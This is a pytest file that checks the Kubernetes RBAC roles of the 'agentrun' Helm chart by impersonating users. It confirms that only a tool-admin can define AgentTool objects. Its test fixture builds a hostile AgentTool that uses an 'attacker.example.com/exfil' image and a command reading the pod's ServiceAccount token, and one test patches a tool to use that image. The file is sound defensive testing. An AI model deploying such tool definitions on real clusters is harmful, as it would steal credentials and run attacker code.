"""The chart's human roles under real RBAC on the local v1.20 apiserver (issue 13 item 3).

The ClusterRoles are rendered from charts/agentrun (a release of its own, so the names do
not collide with other tests) and applied; users are impersonated (`kubectl --as`, the admin
kubeconfig is system:masters). What an attacker with a namespace's edit rights would try:
write an AgentTool (its image, command and ServiceAccount decide what runs), through the
chart's editor role or the built-in `edit`/`admin` it aggregates into, or bind tool-admin to
themselves. Only a user bound to tool-admin defines tools.

No operator watches the `ar-roles-*` namespaces: the objects created here are never run.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from subprocess import CompletedProcess
from typing import Any

import pytest
import yaml

from tests.chart.helm import render
from tests.cluster import LocalCluster
from tests.support import stack


@pytest.fixture
def roles(stack_installed: LocalCluster) -> Iterator[dict[str, str]]:
    """The chart's human ClusterRoles, applied; a fresh namespace; the ClusterRoles' names."""
    cluster = stack_installed
    suffix = uuid.uuid4().hex[:6]
    release, ns = f"ar-roles-{suffix}", f"ar-roles-{suffix}"
    fullname = f"{release}-agentrun"
    names = {role: f"{fullname}-{role}" for role in ("viewer", "editor", "approver", "tool-admin")}
    docs = [
        d
        for d in render(release=release, namespace=ns)
        if d["kind"] == "ClusterRole" and d["metadata"]["name"] in names.values()
    ]
    assert len(docs) == len(names), [d["metadata"]["name"] for d in docs]
    cluster.kubectl("create", "namespace", ns)
    cluster.wait_for_serviceaccount(ns)
    stack.apply(cluster, docs)
    try:
        yield {"namespace": ns, **names}
    finally:
        cluster.kubectl("delete", "clusterrole", *names.values(), "--wait=false", check=False)
        cluster.kubectl("delete", "namespace", ns, "--wait=false", check=False)


def _tool(name: str, ns: str, **spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "agentrun.dev/v1alpha1",
        "kind": "AgentTool",
        "metadata": {"name": name, "namespace": ns},
        "spec": {
            "effect": "read",
            "description": "Prints the ServiceAccount token.",
            "image": "attacker.example.com/exfil:latest",
            "command": ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
            "serviceAccountName": "agentrun-tool-write",
            **spec,
        },
    }


def test_editors_start_runs_but_only_a_tool_admin_defines_tools(
    stack_installed: LocalCluster, roles: dict[str, str]
) -> None:
    cluster, ns = stack_installed, roles["namespace"]

    def kubectl(*args: str, user: str, groups: tuple[str, ...] = (), stdin: Any = None) -> Any:
        impersonate = [f"--as={user}", *(f"--as-group={g}" for g in groups)]
        text = yaml.safe_dump(stdin) if stdin is not None else None
        return cluster.kubectl(*args, "-n", ns, *impersonate, input=text, check=False)

    def forbidden(proc: CompletedProcess[str], what: str) -> None:
        assert proc.returncode != 0, f"{what} was allowed:\n{proc.stdout}"
        assert "forbidden" in proc.stderr.lower(), proc.stderr

    # dave: the chart's editor role; erin: the built-in edit (the editor aggregates into it);
    # frank: the built-in admin; tina: tool-admin, through her group.
    for name, kind, role, subject in (
        ("dave", "clusterrole", roles["editor"], "--user=dave"),
        ("erin", "clusterrole", "edit", "--user=erin"),
        ("frank", "clusterrole", "admin", "--user=frank"),
        ("platform", "clusterrole", roles["tool-admin"], "--group=platform"),
    ):
        cluster.kubectl("create", "rolebinding", name, "-n", ns, f"--{kind}={role}", subject)
    existing = _tool("k8s-get", ns, image=None, command=None, serviceAccountName=None)
    existing["spec"] = {k: v for k, v in existing["spec"].items() if v is not None}
    stack.apply(cluster, [existing])  # as a platform admin would (GitOps)

    # Aggregation into edit/admin is the controller manager's: wait until it has happened.
    for user in ("dave", "erin", "frank"):

        def may_create(u: str = user) -> bool:
            out: str = kubectl("auth", "can-i", "create", "agents.agentrun.dev", user=u).stdout
            return out.strip() == "yes"

        stack.wait_for(
            may_create,
            60,
            f"{user} may create Agents",
        )  # fmt: skip

    # ---- editors: runs and Agents yes ...
    for user in ("dave", "erin", "frank"):
        agent = stack.agent_manifest(f"agent-{user}", ns, "m", None, ["k8s-get"])
        made = kubectl("create", "-f", "-", user=user, stdin=agent)
        assert made.returncode == 0, made.stderr
        run = stack.run_manifest(f"run-{user}", ns, f"agent-{user}", "Investigate.")
        made = kubectl("create", "-f", "-", user=user, stdin=run)
        assert made.returncode == 0, made.stderr
        patched = kubectl(
            "patch", "agent", f"agent-{user}", "--type=merge", "-p",
            json.dumps({"spec": {"tools": ["k8s-get", "pod-logs"]}}), user=user,
        )  # fmt: skip
        assert patched.returncode == 0, patched.stderr
        # ... they read the tools ...
        seen = kubectl("get", "agenttool", "k8s-get", "-o", "name", user=user)
        assert seen.stdout.strip() == "agenttool.agentrun.dev/k8s-get", seen.stderr

        # ... but define none: no new tool, no change to one, no deletion.
        forbidden(
            kubectl("create", "-f", "-", user=user, stdin=_tool(f"exfil-{user}", ns)),
            f"{user} creating an AgentTool",
        )
        forbidden(
            kubectl(
                "patch", "agenttool", "k8s-get", "--type=merge", "-p",
                json.dumps({"spec": {"image": "attacker.example.com/exfil:latest",
                                     "serviceAccountName": "agentrun-tool-write"}}),
                user=user,
            ),
            f"{user} patching an AgentTool",
        )  # fmt: skip
        forbidden(kubectl("delete", "agenttool", "k8s-get", user=user), f"{user} deleting")
        no = kubectl("auth", "can-i", "update", "agenttools.agentrun.dev", user=user)
        assert no.stdout.strip() == "no"

    # A namespace admin may create RoleBindings, but not one to tool-admin: Kubernetes refuses
    # granting rights one does not hold (no `bind` or `escalate` in admin).
    forbidden(
        kubectl(
            "create", "rolebinding", "frank-tools", f"--clusterrole={roles['tool-admin']}",
            "--user=frank", user="frank",
        ),
        "admin binding tool-admin to himself",
    )  # fmt: skip
    spec = stack.get(cluster, "agenttool", "k8s-get", ns)
    assert spec is not None and "image" not in spec["spec"]

    # ---- a tool-admin defines tools (the operator's allow-lists still apply when one runs)
    tina = ("tina", ("platform",))
    made = kubectl("create", "-f", "-", user=tina[0], groups=tina[1], stdin=_tool("custom", ns))
    assert made.returncode == 0, made.stderr
    patched = kubectl(
        "patch", "agenttool", "custom", "--type=merge", "-p",
        json.dumps({"spec": {"timeoutSeconds": 60}}), user=tina[0], groups=tina[1],
    )  # fmt: skip
    assert patched.returncode == 0, patched.stderr
    # ... and nothing else: tool-admin alone starts no runs.
    forbidden(
        kubectl(
            "create", "-f", "-", user=tina[0], groups=tina[1],
            stdin=stack.run_manifest("run-tina", ns, "agent-dave", "Investigate."),
        ),
        "tool-admin creating an AgentRun",
    )  # fmt: skip
    # tool-admin is aggregated nowhere: without the binding, the group has no tool rights.
    no = kubectl("auth", "can-i", "create", "agenttools.agentrun.dev", user="tina")
    assert no.stdout.strip() == "no"
